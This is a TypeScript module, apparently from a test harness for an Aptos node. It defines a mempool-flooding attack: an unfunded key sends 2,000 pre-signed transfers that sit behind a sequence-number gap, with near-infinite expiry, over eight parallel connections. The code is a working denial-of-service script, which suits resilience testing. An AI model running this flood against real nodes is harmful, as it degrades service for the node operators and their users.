import { Account } from "@aptos-labs/ts-sdk";
import { SIGNED_TRANSACTION_TYPE, signTransfer } from "../../../tests/support/signedTransfer.ts";
import type { Attack } from "./attack.ts";
import { startFlood } from "./flood.ts";

const PREPARED = 2_000;
const CONNECTIONS = 8;
/** Expiry in the far future, so that transactions never leave the mempool. */
const NEVER_SECS = 2n ** 63n - 1n;

/** Attack by an unfunded key that fills the mempool with transactions behind a sequence number gap and with a distant expiry. */
export const fillTheMempool: Attack = {
  name: "a key without money fills the mempool",
  async start({ nodeUrl }) {
    const attacker = Account.generate();
    const recipient = Account.generate().accountAddress;
    const bodies = Array.from({ length: PREPARED }, (_, index) => signTransfer(attacker, recipient, BigInt(index + 1), NEVER_SECS).body);
    let sent = 0;
    return startFlood({
      connections: CONNECTIONS,
      next: () => ({
        url: `${nodeUrl}/transactions`,
        headers: SIGNED_TRANSACTION_TYPE,
        body: bodies[sent++ % PREPARED] as Uint8Array,
      }),
    });
  },
};
